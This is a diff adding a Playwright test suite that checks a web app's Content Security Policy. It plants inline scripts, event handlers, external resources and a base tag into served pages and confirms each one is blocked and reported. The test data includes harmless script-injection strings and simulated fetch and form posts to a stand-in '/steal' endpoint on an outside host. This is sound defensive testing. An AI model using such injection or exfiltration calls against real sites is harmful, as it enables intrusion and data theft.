@@ -1,0 +1,114 @@
+import type { Page } from '@playwright/test'
+import { type Complaints, untilHydrated } from '../support/e2e-phone.ts'
+import { expect, test } from './fixtures.ts'
+
+declare global {
+  interface Window {
+    planted?: string
+  }
+}
+
+const ELSEWHERE = 'https://elsewhere.example'
+
+/** What is planted into the page, and the directive that it breaks. */
+const plants: [what: string, html: string, directive: string][] = [
+  ['a script', '<script>window.planted = "ran"</script>', 'script-src-elem inline'],
+  ['a handler', '<img src="/favicon.svg" onload="window.planted = 1">', 'script-src-attr inline'],
+  ['a script from elsewhere', `<script src="${ELSEWHERE}/a.js"></script>`, 'script-src-elem'],
+  ['a style', '<style>main { display: none }</style>', 'style-src-elem inline'],
+  ['a picture from elsewhere', `<img src="${ELSEWHERE}/a.png" alt="">`, 'img-src'],
+  ['a frame', '<iframe src="/privacy-policy" title=""></iframe>', 'frame-src'],
+  ['an object', '<object data="/favicon.svg"></object>', 'object-src'],
+]
+
+for (const [what, html, directive] of plants) {
+  test(`${what} planted into the login is one violation and does nothing`, async ({
+    page,
+    complaints,
+  }) => {
+    await plant(page, '/login', html)
+    await expectOneViolation(page, '/login', complaints, directive)
+  })
+}
+
+for (const path of ['/home', '/game_type/Kesar_Mahal', '/privacy-policy', '/no-such-page']) {
+  test(`a script planted into ${path} is one violation and does not run`, async ({
+    page,
+    complaints,
+  }) => {
+    complaints.allow(/status of 404/)
+    await plant(page, path, '<script>window.planted = "ran"</script>')
+    await expectOneViolation(page, path, complaints, 'script-src-elem inline')
+  })
+}
+
+test('what a script of the page plants later does not run either', async ({ page, complaints }) => {
+  await page.goto('/login')
+  await untilHydrated(page)
+  await page.evaluate(() => {
+    document.body.insertAdjacentHTML('beforeend', '<button onclick="window.planted = 1">!</button>')
+    document.querySelector<HTMLElement>('body > button')?.click()
+  })
+  await expect.poll(() => violations(complaints.found)).toHaveLength(1)
+  expect(violations(complaints.found)[0]).toContain('CSP: script-src-attr inline')
+  expect(await page.evaluate(() => window.planted)).toBeUndefined()
+  complaints.forget()
+})
+
+test('calls and forms go nowhere else', async ({ page, complaints }) => {
+  await page.goto('/login')
+  await untilHydrated(page)
+  await page.evaluate(url => fetch(url).catch(() => {}), `${ELSEWHERE}/steal`)
+  await expect.poll(() => violations(complaints.found)).toHaveLength(1)
+  await page.evaluate(url => {
+    const form = document.createElement('form')
+    form.action = url
+    form.method = 'post'
+    document.body.append(form)
+    form.submit()
+  }, `${ELSEWHERE}/steal`)
+  await expect.poll(() => violations(complaints.found)).toHaveLength(2)
+  expect(violations(complaints.found).map(text => text.split(' ')[1])).toEqual([
+    'connect-src',
+    'form-action',
+  ])
+  expect(new URL(page.url()).pathname).toBe('/login')
+  complaints.forget()
+})
+
+test('another base does not turn links and scripts elsewhere', async ({ page, complaints }) => {
+  // Chromium tells of a base more than once.
+  complaints.allow(/base-uri/)
+  await plant(page, '/login', `<base href="${ELSEWHERE}/">`)
+  await page.goto('/login')
+  await untilHydrated(page)
+  expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
+})
+
+async function expectOneViolation(
+  page: Page,
+  path: string,
+  complaints: Complaints,
+  directive: string,
+): Promise<void> {
+  await page.goto(path)
+  await page.waitForLoadState('networkidle')
+  expect(violations(complaints.found)).toHaveLength(1)
+  expect(violations(complaints.found)[0]).toContain(`CSP: ${directive}`)
+  expect(await page.evaluate(() => window.planted)).toBeUndefined()
+  await expect(page.locator('main')).toBeVisible()
+  complaints.forget()
+}
+
+/** The page as the server sends it, with something put in as the last thing of its body. */
+async function plant(page: Page, path: string, html: string): Promise<void> {
+  await page.route(`**${path}`, async route => {
+    const answer = await route.fetch()
+    const body = (await answer.text()).replace('</body>', () => `${html}</body>`)
+    await route.fulfill({ response: answer, body })
+  })
+}
+
+function violations(found: readonly string[]): string[] {
+  return found.filter(text => text.startsWith('CSP: '))
+}
